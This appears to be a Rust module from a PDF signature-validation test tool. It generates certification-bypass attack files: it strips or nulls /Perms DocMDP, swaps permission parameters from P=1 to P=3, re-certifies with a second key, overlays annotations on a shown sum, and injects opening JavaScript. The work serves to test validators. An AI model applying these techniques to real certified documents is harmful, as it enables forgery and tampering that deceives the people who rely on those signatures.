//! Loosening what a certification permits, and then using it.

use super::letter::{CATALOG, COVER, PAGE, PARAMETERS, other_sum};
use super::originals::{ANNOTATIONS, Original, Originals};
use super::signatures::{Signing, signed};
use super::update::{Update, object, replaced};
use super::{Attack, Class};
use crate::Outcome;
use crate::pki::Pki;

const PERMS: &str = "/Perms << /DocMDP 28 0 R >>";

pub(super) fn all(originals: &Originals, pki: &Pki) -> Outcome<Vec<Attack>> {
    let mut attacks = permissions(&originals.no_changes)?;
    attacks.extend(parameters(originals)?);
    attacks.extend(signed_again(originals, pki)?);
    attacks.extend(overstepped(originals)?);
    attacks.extend(scripts(originals)?);
    attacks.push(after_approval(&originals.approval, pki)?);
    Ok(attacks)
}

/// With the sum filled in anew, which P = 1 forbids.
fn filled(update: Update<'_>) -> Outcome<Vec<u8>> {
    Ok(update.fill_sum()?.write())
}

fn permissions(original: &Original) -> Outcome<Vec<Attack>> {
    let attack =
        |name, what, file| Attack::new(Class::CertificationBypass, name, original, what, file);
    let update = || Update::on(&original.file);
    let dss = "iText, removePermissions.pdf";
    Ok(vec![
        attack(
            "perms-removed",
            "P = 1; /Perms is removed from the catalog and a field filled in",
            filled(update().edit(CATALOG, PERMS, "")?)?,
        )
        .from(dss),
        attack(
            "perms-removed-alone",
            "P = 1; /Perms is removed from the catalog and nothing else done",
            update().edit(CATALOG, PERMS, "")?.write(),
        )
        .from(dss),
        attack(
            "perms-null",
            "P = 1; /Perms is null and a field filled in",
            filled(update().edit(CATALOG, PERMS, "/Perms null")?)?,
        ),
        attack(
            "perms-empty",
            "P = 1; /Perms has no /DocMDP any more and a field is filled in",
            filled(update().edit(CATALOG, PERMS, "/Perms << >>")?)?,
        ),
        attack(
            "usage-rights-added",
            "P = 1; /Perms has /UR3 too, which grants form filling, and a field is filled in",
            filled(update().edit(
                CATALOG,
                PERMS,
                "/Perms << /DocMDP 28 0 R /UR3 << /Type /Sig /Filter /Adobe.PPKLite \
                 /Reference [<< /Type /SigRef /TransformMethod /UR3 /TransformParams \
                 << /Type /TransformParams /V /2.2 /Form [/FillIn /Add /Delete] >> >>] >> >>",
            )?)?,
        )
        .from("own"),
        attack(
            "perms-direct",
            "P = 1; /Perms /DocMDP is a dictionary with P = 2 that nobody signed, and a field is \
             filled in",
            filled(update().edit(
                CATALOG,
                "/DocMDP 28 0 R",
                "/DocMDP << /Type /Sig /Reference [<< /Type /SigRef /TransformMethod /DocMDP \
                 /TransformParams << /Type /TransformParams /P 2 /V /1.2 >> >>] >>",
            )?)?,
        )
        .from("own"),
    ])
}

fn parameters(originals: &Originals) -> Outcome<Vec<Attack>> {
    let attack = |name, original, what, file| {
        Attack::new(Class::CertificationBypass, name, original, what, file)
    };
    let (direct, indirect) = (&originals.no_changes, &originals.indirect);
    let dictionary = object(&direct.file, direct.signature)?;
    let looser = replaced(&dictionary, "/P 1 ", "/P 3 ")?;
    let without = replaced(
        &dictionary,
        "/TransformMethod /DocMDP",
        "/TransformMethod /Lain",
    )?;
    let swapped = "<< /Type /TransformParams /P 3 /V /1.2 >>";
    let update = || Update::on(&indirect.file);
    Ok(vec![
        attack(
            "later-reference-looser",
            direct,
            "P = 1; a later copy of the signature dictionary says P = 3, and a field is filled in",
            filled(Update::on(&direct.file).put(direct.signature, looser))?,
        ),
        attack(
            "later-reference-without-docmdp",
            direct,
            "P = 1; a later copy of the signature dictionary has another transform method, and a \
             field is filled in",
            filled(Update::on(&direct.file).put(direct.signature, without))?,
        ),
        attack(
            "parameters-swapped",
            indirect,
            "P = 1 in an object of its own, which is replaced by one with P = 3, and a field is \
             filled in",
            filled(update().put(PARAMETERS, swapped))?,
        ),
        attack(
            "parameters-swapped-annotation",
            indirect,
            "P = 1 in an object of its own, which is replaced by one with P = 3, and an annotation \
             lies over the sum",
            update()
                .put(PARAMETERS, swapped)
                .annotate(
                    PAGE,
                    &format!("/Subtype /Stamp /Rect {COVER} /F 4"),
                    &other_sum(),
                )?
                .write(),
        ),
        attack(
            "parameters-freed",
            indirect,
            "P = 1 in an object of its own, which is freed so that the default of 2 would hold, and \
             a field is filled in",
            filled(update().free(PARAMETERS, 1))?,
        )
        .from("own"),
        attack(
            "parameters-without-p",
            indirect,
            "P = 1 in an object of its own, which is replaced by one without /P, and a field is \
             filled in",
            filled(update().put(PARAMETERS, "<< /Type /TransformParams /V /1.2 >>"))?,
        )
        .from("own"),
    ])
}

/// Somebody whom the anchors trust signs with a looser permission.
fn signed_again(originals: &Originals, pki: &Pki) -> Outcome<Vec<Attack>> {
    let attack = |name, original, what, file| {
        Attack::new(Class::CertificationBypass, name, original, what, file)
    };
    let certifying = certifying();
    let (p1, p2) = (&originals.no_changes, &originals.form_filling);
    let without = Update::on(&p1.file).edit(CATALOG, PERMS, "")?;
    // the number that the second signature gets
    let second = format!("/Perms << /DocMDP {} 0 R >>", without.next());
    let bare = without.write();
    let replaced_perms = Update::on(&p1.file).edit(CATALOG, PERMS, &second)?.write();
    let certified_twice = signed(&replaced_perms, &pki.colleague, &certifying)?;
    let approved = signed(&p2.file, &pki.colleague, &certifying)?;
    let annotated = |file: &[u8]| -> Outcome<Vec<u8>> { Ok(Update::on(file).note()?.write()) };
    Ok(vec![
        attack(
            "twice",
            p1,
            "P = 1; somebody certifies again with P = 3 and /Perms names theirs",
            certified_twice.clone(),
        )
        .from("iText, twoCertificationSignatures.pdf"),
        attack(
            "twice-annotated",
            p1,
            "P = 1; somebody certifies again with P = 3, /Perms names theirs, and a note follows",
            annotated(&certified_twice)?,
        )
        .from("iText, twoCertificationSignatures.pdf"),
        attack(
            "docmdp-in-approval",
            p2,
            "P = 2; somebody's approval has a DocMDP reference with P = 3, and a note follows",
            annotated(&approved)?,
        )
        .is("ANNOTATIONS"),
        attack(
            "perms-removed-then-signed",
            p1,
            "P = 1; /Perms is removed and somebody signs with P = 3",
            signed(&bare, &pki.colleague, &certifying)?,
        ),
    ])
}

fn overstepped(originals: &Originals) -> Outcome<Vec<Attack>> {
    let mut attacks = Vec::new();
    for (name, original, what) in [
        (
            "p1-annotated",
            &originals.no_changes,
            "P = 1 and a note in a corner follows",
        ),
        (
            "p2-annotated",
            &originals.form_filling,
            "P = 2 and a note in a corner follows",
        ),
    ] {
        let file = Update::on(&original.file).note()?.write();
        let attack = Attack::new(Class::CertificationBypass, name, original, what, file);
        attacks.push(attack.from("ISO 32000-2, table 257").is("ANNOTATIONS"));
    }
    Ok(attacks)
}

/// What is certified may run scripts with more rights, whoever wrote them.
fn scripts(originals: &Originals) -> Outcome<Vec<Attack>> {
    let script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
    let mut attacks = Vec::new();
    for (name, original, what) in [
        (
            "script-p2",
            &originals.form_filling,
            "P = 2 and a script that runs at opening follows",
        ),
        (
            "script-p3",
            &originals.annotations,
            "P = 3 and a script that runs at opening follows",
        ),
    ] {
        let file = Update::on(&original.file)
            .edit(CATALOG, "/Pages", &format!("/OpenAction {script} /Pages"))?
            .write();
        attacks.push(Attack::new(
            Class::CertificationBypass,
            name,
            original,
            what,
            file,
        ));
    }
    let original = &originals.annotations;
    let entries =
        format!("/Subtype /Link /Rect [500 20 520 40] /F 4 /A {script} /AA << /PO {script} >>");
    attacks.push(Attack::new(
        Class::CertificationBypass,
        "script-in-annotation-p3",
        original,
        "P = 3 and a link in a corner follows that runs a script when its page is opened",
        Update::on(&original.file)
            .annotate(PAGE, &entries, &other_sum())?
            .write(),
    ));
    Ok(attacks)
}

/// A certification is the first signature (12.8.2.2): one that comes later changes what the first
/// was made under.
fn after_approval(approval: &Original, pki: &Pki) -> Outcome<Attack> {
    let update = Update::on(&approval.file);
    let perms = format!("/Perms << /DocMDP {} 0 R >> /Pages", update.next());
    let prepared = update.edit(CATALOG, "/Pages", &perms)?.write();
    let file = signed(&prepared, &pki.colleague, &certifying())?;
    Ok(Attack::new(
        Class::CertificationBypass,
        "after-approval",
        approval,
        "after an approval somebody certifies with P = 3",
        file,
    )
    .from("iText, certificationSignatureAfterApproval.pdf"))
}

fn certifying() -> Signing<'static> {
    Signing {
        rectangle: [72.0, 100.0, 200.0, 60.0],
        reference: Some(ANNOTATIONS),
        ..Signing::default()
    }
}
